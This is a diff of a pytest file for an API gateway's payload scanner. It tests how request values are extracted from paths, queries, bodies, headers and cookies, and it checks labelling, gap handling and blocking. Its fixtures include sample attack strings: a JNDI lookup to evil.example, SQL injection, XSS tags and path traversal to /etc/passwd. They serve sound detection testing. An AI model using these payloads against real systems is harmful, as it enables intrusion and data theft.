@@ -11,9 +11,10 @@ import httpx
 import pytest
 
 from config.gateway import ScanningSettings
+from features.request_parts import extract
 from gateway.policy import PolicyError, parse_policy
 from gateway.policy_store import PolicyStore
-from gateway.scan import parse_record, request_values
+from gateway.scan import parse_record, verdict
 from telemetry.store import TelemetryStore
 from tests.gateway.conftest import Clock, key_headers, running, with_gateway
 
@@ -38,42 +39,130 @@ def compact():
     return compact_scanner(with_class_head(det, X, ds.detail.iloc[rows], 0.5), "4")
 
 
-def test_request_values_from_query_body_and_path():
+def _ctx(values):
+    from features.payload import split_context
+
+    return [split_context(v) for v in values]
+
+
+def test_every_part_of_a_request_in_its_context():
     cfg = ScanningSettings()
-    v = request_values("/v1/search", "q=red+shoes&page=2&x=%3Cb%3E", b"", None, cfg)
-    assert v == ["red shoes", "2", "<b>"]
-    body = json.dumps({"user": {"name": "O'Brien", "tags": ["a", 5]}, "ok": True}).encode()
-    assert request_values("/v1/orders", "", body, "application/json; charset=utf-8", cfg) == [
-        "O'Brien",
-        "a",
-        "5",
-    ]
+    ex = extract("/v1/search", "q=red+shoes&page=2&x=%3Cb%3E", [], b"", None, cfg)
+    assert _ctx(ex.values) == [("param", "red shoes"), ("param", "<b>")]  # plain 2 skipped
+    body = json.dumps({"user": {"name": "O'Brien", "tags": ["a b", 5]}, "$where": 1}).encode()
+    ex = extract("/v1/orders", "", [], body, "application/json; charset=utf-8", cfg)
+    assert _ctx(ex.values) == [("param", "O'Brien"), ("param", "a b"), ("key", "$where")]
     form = b"name=O%27Brien&comment=%3Cscript%3E"
-    assert request_values("/", "", form, "application/x-www-form-urlencoded", cfg) == [
-        "O'Brien",
-        "<script>",
+    ex = extract("/", "", [], form, "application/x-www-form-urlencoded", cfg)
+    assert _ctx(ex.values) == [("param", "O'Brien"), ("param", "<script>")]
+    assert extract("/v1/orders/42", "", [], b"\x89PNG", "image/png", cfg).values == []
+    # multipart: field values, odd names and file names; a file's bytes are not content
+    mp = (
+        b'--XyZ\r\nContent-Disposition: form-data; name="note"\r\n\r\nhi <b>there</b>\r\n'
+        b'--XyZ\r\nContent-Disposition: form-data; name="f"; filename="../../x.sh"\r\n'
+        b"Content-Type: application/octet-stream\r\n\r\n\x00\x01binary\r\n--XyZ--\r\n"
+    )
+    ex = extract("/up", "", [], mp, "multipart/form-data; boundary=XyZ", cfg)
+    assert _ctx(ex.values) == [("param", "hi <b>there</b>"), ("param", "../../x.sh")]
+
+
+def test_traversal_in_the_path_is_read_whole_and_decoded():
+    cfg = ScanningSettings()
+    for path in ("/v1/files/../../etc/passwd", "/v1/files/..%2F..%2Fetc%2Fpasswd"):
+        ex = extract(path, "", [], b"", None, cfg)
+        assert _ctx(ex.values) == [("path", "/v1/files/../../etc/passwd")], path
+    # a `..` segment alone is enough: it is not a plain identifier any more
+    assert _ctx(extract("/a/../b", "", [], b"", None, cfg).values) == [("path", "/a/../b")]
+    assert extract("/v1/orders/42", "", [], b"", None, cfg).values == []
+
+
+def test_headers_and_cookies_each_by_their_field():
+    cfg = ScanningSettings()
+    headers = [
+        ("Host", "api.example.com"),
+        ("Accept", "application/json, text/plain, */*"),
+        ("Accept-Language", "en-US,en;q=0.9"),  # conforms to its grammar: nothing to read
+        ("Accept-Encoding", "gzip, deflate, br"),
+        ("If-Modified-Since", "Wed, 21 Oct 2015 07:28:00 GMT"),
+        ("X-Forwarded-For", "203.0.113.9, 10.0.0.1"),
+        ("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcDEF123xyz"),
+        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"),
+        ("Referer", "https://shop.example/search?q=red%20shoes"),
+        ("Cookie", "session=Zk3x9QpLr2M8vNw4; theme=dark mode; id=1' or '1'='1"),
+        ("X-Api-Version", "${jndi:ldap://evil.example/a}"),
+        ("Accept-Language", "en'; DROP TABLE users--"),  # breaks its grammar: read it
+        ("Content-Length", "12"),
     ]
-    # plain path segments are not content; odd ones are
-    assert request_values("/v1/files/..%2F..%2Fetc%2Fpasswd", "", b"", None, cfg) == [
-        "../../etc/passwd"
+    got = _ctx(extract("/v1/items", "", headers, b"", None, cfg).values)
+    assert got == [
+        ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"),
+        ("referer", "https://shop.example/search?q=red%20shoes"),
+        ("cookie", "dark mode"),
+        ("cookie", "1' or '1'='1"),
+        ("header", "${jndi:ldap://evil.example/a}"),
+        ("header", "en'; DROP TABLE users--"),
     ]
-    assert request_values("/v1/orders/42", "", b"\x89PNG", "image/png", cfg) == []
-    small = ScanningSettings(max_values=2, max_value_bytes=16)
-    vals = request_values("/", "a=1&b=" + "x" * 100 + "&c=3", b"", None, small)
-    assert vals == ["1", "x" * 16]
+    # auth parameters are read one by one; skip_headers and scan_headers switch reading off
+    digest = [("Authorization", 'Digest username="x\' or 1=1--", realm="api"')]
+    assert _ctx(extract("/", "", digest, b"", None, cfg).values) == [("header", "x' or 1=1--")]
+    off = ScanningSettings(skip_headers=["X-Api-Version"])
+    assert not any("jndi" in v for v in extract("/", "", headers, b"", None, off).values)
+
+
+def test_budgets_leave_a_gap_never_a_silent_benign():
+    cfg = ScanningSettings()
+    # an attack in the 65th field is read (the old scanner stopped at 64)
+    fields = "&".join(f"f{i}=value+{i}" for i in range(64)) + "&f64=1%27+or+%271%27%3D%271"
+    ex = extract("/", fields, [], b"", None, cfg)
+    assert len(ex.values) == 65 and ex.values[-1] == "1' or '1'='1" and not ex.gaps
+    small = ScanningSettings(max_values=64)
+    ex = extract("/", fields, [], b"", None, small)
+    assert len(ex.values) == 64 and ex.gaps == ["query: more than 64 values"]
+    # a body over the limit: a gap, and its strings read as far as the limit goes
+    big = json.dumps({"items": [{"note": f"gift wrap {i}"} for i in range(5000)]}).encode()
+    lim = ScanningSettings(max_body_bytes=4096)
+    ex = extract("/o", "", [], big, "application/json", lim)
+    assert ex.gaps and "over max_body_bytes 4096" in ex.gaps[0]
+    assert 50 < len(ex.values) < 200 and all("gift wrap" in v for v in ex.values)
+    # a long value is read in overlapping windows, not cut
+    tail = "".join(f"word{i} " for i in range(1500)) + "<script>alert(1)</script>"
+    ex = extract("/", "", [], json.dumps({"t": tail}).encode(), "application/json", cfg)
+    assert len(tail) > 10_000 and all(len(v) <= cfg.max_value_bytes for v in ex.values)
+    assert len(ex.values) == -(-len(tail) // (cfg.max_value_bytes - 64))
+    assert "<script>alert(1)</script>" in ex.values[-1]
+    # windows overlap: an attack across a window's edge is whole in one of them
+    edge = "b" * (cfg.max_value_bytes - 10) + "<script>alert(1)</script>" + "c" * 5000
+    ex = extract("/", "", [], json.dumps({"t": edge}).encode(), "application/json", cfg)
+    assert any("<script>alert(1)</script>" in v for v in ex.values)
+    # malformed JSON is still read string by string
+    ex = extract("/", "", [], b'{"a": "x <svg onload=1>", "b": [', "application/json", cfg)
+    assert _ctx(ex.values) == [("param", "x <svg onload=1>")]
+
+
+def test_verdict_attack_beats_gap_and_gap_beats_benign():
+    assert verdict(("benign", 0.1), ["body: too big"], "1", 3).label == "unscanned"
+    r = verdict(("xss", 0.99), ["body: too big"], "1", 3)
+    assert r.label == "xss" and r.gap is None
+    assert verdict(("benign", 0.1), [], "1", 3).label == "benign"
+    r = verdict(None, ["body: 2000000 bytes"], None, 0)
+    assert r.label == "unscanned" and r.gap == "body: 2000000 bytes" and r.score is None
 
 
 def test_parse_record_names_what_is_wrong():
     cfg = ScanningSettings()
-    assert parse_record('{"method": "GET", "url": "/a?q=%27"}', cfg) == (["'"], "request")
-    assert parse_record("plain value\n", cfg) == (["plain value"], "value")
-    assert parse_record('{"not": "a request"}', cfg)[1] == "value"
+    vals, gaps, kind = parse_record('{"method": "GET", "url": "/a?q=%27+x"}', cfg)
+    assert (vals, gaps, kind) == (["' x"], [], "request")
+    assert parse_record("plain value\n", cfg) == (["plain value"], [], "value")
+    assert parse_record('{"not": "a request"}', cfg)[2] == "value"
+    # a line that starts with a brace but is not JSON is a bare value, not an error
+    assert parse_record("{{7*7}}", cfg) == (["{{7*7}}"], [], "value")
+    assert parse_record("{broken", cfg)[2] == "value"
     with pytest.raises(ValueError, match="url"):
         parse_record('{"url": 5}', cfg)
     with pytest.raises(ValueError, match="headers"):
         parse_record('{"url": "/", "headers": []}', cfg)
-    with pytest.raises(ValueError, match="not valid JSON"):
-        parse_record("{broken", cfg)
+    vals, _, _ = parse_record('{"url": "/x", "headers": {"User-Agent": "${jndi:x}"}}', cfg)
+    assert _ctx(vals) == [("user-agent", "${jndi:x}")]
 
 
 def test_policy_route_bands_validated_and_resolved():
@@ -129,7 +218,7 @@ def test_shadow_first_then_enforced_on_one_route(gw_settings, compact):
             assert gw.status()["scanning"]["version"] == "4"
             benign = await c.get("/v1/search", params={"q": "red shoes"}, headers=alice)
             shadow = await c.get("/v1/search", params={"q": XSS}, headers=alice)
-            plain = await c.get("/v1/orders/7", headers=alice)  # nothing to scan
+            plain = await c.get("/v1/orders/7", headers=alice)  # only its headers to read
             # enforce on search only; orders stay in shadow
             store = PolicyStore(s.policy_dir)
             pol = store.load()
@@ -170,7 +259,8 @@ def test_shadow_first_then_enforced_on_one_route(gw_settings, compact):
     assert xss_get["scan_action"].tolist() == [shadow_action, "block"]
     assert xss_get["ratelimit_decision"].iloc[1] == "scan_block"
     assert post["scan_action"] == shadow_action
-    assert ev.loc[ev["url_path"] == "/v1/orders/7", "scan_label"].isna().all()
+    # headers are read too: the client's User-Agent, judged as a User-Agent, is benign
+    assert ev.loc[ev["url_path"] == "/v1/orders/7", "scan_label"].tolist() == ["benign"]
 
 
 def pd_isna(v):
@@ -325,3 +415,72 @@ def test_a_route_switched_off_is_not_scanned(gw_settings, compact):
     ev = _events(s)
     assert ev.loc[ev["url_path"] == "/v1/search", "scan_label"].isna().all()
     assert ev.loc[ev["url_path"] == "/v1/products", "scan_label"].tolist() == ["xss"]
+
+
+def test_attacks_in_headers_cookies_and_path_are_caught_live(gw_settings, compact):
+    s, keys = gw_settings
+    compact.save(s.scanner_path())
+    h = key_headers(keys["alice"])
+
+    async def main():
+        async with running(s, Clock()) as (_, c):
+            await c.get("/v1/products", params={"n": 1}, headers={**h, "user-agent": XSS})
+            await c.get("/v1/products", params={"n": 2}, headers={**h, "cookie": f"pref={XSS}"})
+            await c.get("/v1/products/..%5C..%5Cwindows%5Cwin.ini", params={"n": 3}, headers=h)
+            await c.get(
+                "/v1/products",
+                params={"n": 4, "since": "2026-11-02T10:00:00Z"},
+                headers={**h, "accept-language": "en-US,en;q=0.9", "cookie": "theme=dark"},
+            )
+
+    asyncio.run(main())
+    ev = _events(s)
+    label = {
+        q.split("n=")[1][0]: lab for q, lab in zip(ev["url_query"], ev["scan_label"], strict=False)
+    }
+    assert label["1"] == "xss" and label["2"] == "xss" and label["4"] == "benign"
+    assert label["3"] not in ("benign", None)  # the traversal in the path is read
+
+
+def test_unscanned_is_recorded_counted_and_acts_where_enforced(gw_settings, compact):
+    s, keys = gw_settings
+    compact.save(s.scanner_path())
+    h = {**key_headers(keys["alice"]), "content-type": "application/json"}
+    big = json.dumps({"lines": [f"gift wrap {i}" for i in range(400)]})
+    sc = s.gateway.scanning.model_copy(update={"max_values": 50})
+    cfg = with_gateway(s, scanning=sc)
+    store = PolicyStore(cfg.policy_dir)
+    from gateway.policy import initial_policy
+
+    pol = initial_policy(cfg)
+    t = pol.targets["payload"].model_validate(
+        {
+            **pol.targets["payload"].model_dump(),
+            "routes": {"POST /v1/orders": {"mode": "enforce", "unscanned": "challenge"}},
+        }
+    )
+    store.publish(
+        pol.model_copy(update={"targets": {**pol.targets, "payload": t}}), author="t", reason="t"
+    )
+
+    async def main():
+        async with running(cfg, Clock()) as (_, c):
+            shadow = await c.put("/v1/orders/7", content=big, headers=h)
+            enforced = await c.post("/v1/orders", content=big, headers=h)
+            small = await c.post("/v1/orders", content='{"note": "gift wrap"}', headers=h)
+            metrics = (await c.get("/metrics")).text
+            return shadow, enforced, small, metrics
+
+    shadow, enforced, small, metrics = asyncio.run(main())
+    assert shadow.status_code != 403  # shadow (the default) only records
+    assert enforced.status_code == 403 and enforced.json()["error"] == "scan_challenge"
+    assert "unscanned" in enforced.json()["detail"] and "more than 50" in enforced.json()["detail"]
+    assert small.status_code in (200, 201)
+    assert 'gatewise_scan_unscanned_total{reason="json"} 2' in metrics
+    ev = _events(cfg)
+    put = ev[ev["http_request_method"] == "PUT"].iloc[0]
+    post = ev[ev["http_request_method"] == "POST"]
+    assert put["scan_label"] == "unscanned" and put["scan_action"] == "log"  # the default
+    assert put["scan_gap"] == "json body: more than 50 values"
+    assert sorted(post["scan_label"]) == ["benign", "unscanned"]
+    assert post.loc[post["scan_label"] == "unscanned", "scan_action"].tolist() == ["challenge"]
